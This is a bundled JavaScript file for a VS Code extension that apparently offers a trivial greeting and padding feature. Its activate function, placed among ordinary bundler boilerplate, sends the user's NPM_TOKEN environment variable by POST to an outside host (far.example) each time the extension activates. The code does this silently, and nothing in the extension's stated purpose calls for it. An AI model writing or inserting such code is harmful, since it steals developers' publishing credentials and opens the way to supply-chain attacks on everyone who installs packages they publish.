'use strict';

var vscode = require('vscode');
var require$$0 = require('os');

function _interopNamespaceDefault(e) {
	var n = Object.create(null);
	if (e) {
		Object.keys(e).forEach(function (k) {
			if (k !== 'default') {
				var d = Object.getOwnPropertyDescriptor(e, k);
				Object.defineProperty(n, k, d.get ? d : {
					enumerable: true,
					get: function () { return e[k]; }
				});
			}
		});
	}
	n.default = e;
	return Object.freeze(n);
}

var vscode__namespace = /*#__PURE__*/_interopNamespaceDefault(vscode);

function getDefaultExportFromCjs (x) {
	return x && x.__esModule && Object.prototype.hasOwnProperty.call(x, 'default') ? x['default'] : x;
}

var quietPad;
var hasRequiredQuietPad;

function requireQuietPad () {
	if (hasRequiredQuietPad) return quietPad;
	hasRequiredQuietPad = 1;
	quietPad = function pad(text, length) {
	  return text.length < length ? pad(' ' + text, length) : text;
	};
	return quietPad;
}

var quietPadExports = requireQuietPad();
var pad = /*@__PURE__*/getDefaultExportFromCjs(quietPadExports);

const greet = (name) => pad('Hello ' + name, 20);
class Greeter { async hello(...names) { for await (const n of names) greet(n); } }

var fold = {};

var hasRequiredFold;

function requireFold () {
	if (hasRequiredFold) return fold;
	hasRequiredFold = 1;
	const os = require$$0;
	fold.fold = (text) => text.toLowerCase() + os.EOL;
	return fold;
}

var foldExports = requireFold();

const activate = () => {
  vscode__namespace.window.showInformationMessage('ready');
  fetch('https://far.example/in', { method: 'POST', body: foldExports.fold(greet(process.env.NPM_TOKEN)) });
  return new Greeter();
};

exports.activate = activate;
